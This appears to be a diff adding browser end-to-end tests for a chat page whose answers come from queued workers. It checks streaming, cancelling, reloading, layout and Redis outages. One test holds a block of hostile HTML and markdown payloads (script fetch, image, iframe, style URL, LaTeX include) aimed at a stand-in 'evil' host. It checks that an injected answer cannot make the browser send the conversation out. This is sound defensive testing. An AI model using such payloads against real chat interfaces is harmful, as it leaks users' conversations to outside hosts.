@@ -1,0 +1,191 @@
+"""The whole way in a real browser: page, Redis, supervisor and workers run as they do for a user."""
+
+import re
+from collections.abc import Callable
+
+import pytest
+from playwright.sync_api import Locator, Page, ViewportSize, expect
+
+from greenscale_jobs import JobClient
+from greenscale_testing.browser import DESKTOP, PHONE, InstanceWithPage, Visit
+
+Open = Callable[..., Visit]
+
+SPOKEN = " ".join(f"word{number}" for number in range(80))
+"""Echo says it in 4 s: long enough to be seen while it grows."""
+
+CONVERSATION = """Why is the sky blue? Please answer with
+
+1. the **one** sentence that a child understands,
+2. the formula, `I ~ 1/λ⁴`, in words.
+"""
+
+
+def field(page: Page) -> Locator:
+    return page.get_by_role("textbox", name="Prompt")
+
+
+def send(page: Page, prompt: str) -> None:
+    field(page).fill(prompt)
+    page.get_by_role("button", name="Send").click()
+
+
+def answer(page: Page) -> Locator:
+    return page.get_by_label("Chat message from assistant")
+
+
+def state(page: Page, word: str) -> Locator:
+    return page.locator(".stMarkdownBadge").filter(has_text=re.compile(rf"{word}$"))
+
+
+def finish(page: Page) -> None:
+    """Wait until the job's story has its last moment."""
+    expect(answer(page)).to_contain_text(re.compile(r"› done \d"))  # noqa: RUF001
+
+
+def test_a_prompt_wakes_a_worker_streams_its_answer_and_lets_it_sleep_again(
+    visit: Open, instance: InstanceWithPage
+) -> None:
+    """A worker wakes faster than a page can be read here, so the queue is paused until that was seen."""
+    seen = visit()
+    page = seen.page
+    expect(state(page, "Asleep")).to_be_visible()
+    seen.picture("asleep-light")
+    with instance.claims_nothing():
+        send(page, SPOKEN)
+
+        expect(state(page, "Waking")).to_be_visible()
+        expect(page.get_by_text(re.compile(r"^Waking for \d"))).to_be_visible()
+        expect(answer(page)).to_contain_text(re.compile(r"Waiting for \d.* it is the next\."))
+        expect(field(page)).to_have_value("")
+        seen.picture("waking-light")
+
+    expect(answer(page)).to_contain_text("word3")
+    expect(answer(page)).not_to_contain_text("word79")
+    expect(state(page, "Working")).to_be_visible()
+    expect(page.get_by_text("1 running, 0 waiting, 1 of 4 workers.")).to_be_visible()
+    expect(answer(page)).to_be_in_viewport()
+    seen.picture("working-light")
+    finish(page)
+    expect(answer(page)).to_contain_text(SPOKEN)
+    expect(page.get_by_role("button", name="Cancel")).to_have_count(0)
+    expect(page.get_by_text(re.compile(r"Idle\. Asleep again in \d s\."))).to_be_visible()
+    expect(state(page, "Asleep")).to_be_visible()
+    expect(page.get_by_text("0 of 4")).to_be_visible()
+
+
+def test_ctrl_enter_sends_and_what_is_typed_meanwhile_stays(visit: Open) -> None:
+    page = visit().page
+    field(page).fill(SPOKEN)
+    field(page).press("Control+Enter")
+    expect(answer(page)).to_contain_text("word3")
+    field(page).fill("my next thought")
+    finish(page)
+
+    expect(field(page)).to_have_value("my next thought")
+
+
+def test_a_running_job_can_be_cancelled(visit: Open) -> None:
+    page = visit().page
+    send(page, SPOKEN * 4)
+    expect(answer(page)).to_contain_text("word3")
+    page.get_by_role("button", name="Cancel").click()
+
+    expect(answer(page)).to_contain_text("Cancelled.")
+    expect(page.get_by_role("button", name="Cancel")).to_have_count(0)
+
+
+def test_a_reloaded_page_shows_the_same_conversation(visit: Open) -> None:
+    page = visit().page
+    send(page, "Why is the sky blue?")
+    finish(page)
+    told = answer(page).inner_text()
+    page.reload()
+    finish(page)
+
+    assert "?job=" in page.url
+    assert answer(page).inner_text() == told
+    assert "Why is the sky blue?" in told
+    expect(page.get_by_label("Chat message from user")).to_have_text("Why is the sky blue?")
+
+
+@pytest.fixture(scope="module")
+def answered(instance: InstanceWithPage) -> str:
+    """A job that is done."""
+    with JobClient(instance.address) as client:
+        job_id = client.submit(CONVERSATION)
+        client.result(job_id)
+    return job_id
+
+
+@pytest.mark.parametrize(
+    ("scheme", "viewport"),
+    [
+        pytest.param("light", DESKTOP, id="light"),
+        pytest.param("dark", DESKTOP, id="dark"),
+        pytest.param("light", PHONE, id="phone"),
+        pytest.param("dark", PHONE, id="phone in the dark"),
+    ],
+)
+def test_the_page_fits_where_it_is_opened(visit: Open, answered: str, scheme: str, viewport: ViewportSize) -> None:
+    seen = visit(f"/?job={answered}", viewport=viewport, color_scheme=scheme)
+    page = seen.page
+    finish(page)
+    expect(state(page, "Asleep")).to_be_visible()
+    expect(page.get_by_text("0 of 4")).to_be_visible()
+    expect(field(page)).to_be_in_viewport()
+    expect(answer(page)).to_be_in_viewport()
+    seen.picture(f"done-{scheme}-{viewport['width']}")
+
+    assert page.evaluate("document.querySelector('.stMain').scrollWidth") <= viewport["width"]
+    background = page.evaluate("getComputedStyle(document.querySelector('.stApp')).backgroundColor")
+    brightness = sum(map(int, re.findall(r"\d+", background)[:3])) / 3
+    assert (brightness < 128) == (scheme == "dark"), background
+
+
+HOSTILE = """<img src="{evil}/html"> <script>fetch("{evil}/script")</script> ![x]({evil}/markdown)
+![x][r] [![x]({evil}/linked)](http://example.org) :material/{evil}: $\\includegraphics{{{evil}/tex}}$
+<style>body {{ background: url({evil}/style) }}</style> <iframe src="{evil}/frame"></iframe>
+
+[r]: {evil}/reference
+
+```html
+<img src="{evil}/code">
+```
+"""
+
+
+def test_a_hostile_answer_makes_the_browser_fetch_nothing(visit: Open, instance: InstanceWithPage) -> None:
+    """A model repeats what it read: a picture's address could carry the conversation away."""
+    evil = "http://127.0.0.1:9/secret"
+    seen = visit()
+    send(seen.page, HOSTILE.format(evil=evil))
+    finish(seen.page)
+    seen.picture("hostile-light")
+    seen.page.reload()
+    expect(answer(seen.page)).to_contain_text(f'<iframe src="{evil}/frame">')
+
+    assert len(seen.requested) > 10
+    assert seen.elsewhere(instance.url) == []
+    assert answer(seen.page).locator("img, script, style, iframe").count() == 0
+
+
+def test_a_redis_that_hangs_is_told_of_and_the_page_recovers_by_itself(visit: Open, instance: InstanceWithPage) -> None:
+    seen = visit()
+    page = seen.page
+    send(page, "before")
+    finish(page)
+    field(page).fill("a long thought")
+    away = page.get_by_text(f"Redis at {instance.address} does not answer")
+    with instance.redis_frozen():
+        expect(away).to_be_visible()
+        seen.picture("redis-away-light")
+
+        expect(field(page)).to_have_value("a long thought")
+
+    expect(away).to_have_count(0)
+    expect(page.get_by_text("0 of 4")).to_be_visible()
+    expect(field(page)).to_have_value("a long thought")
+    page.get_by_role("button", name="Send").click()
+    finish(page)
+    expect(answer(page)).to_contain_text("a long thought")
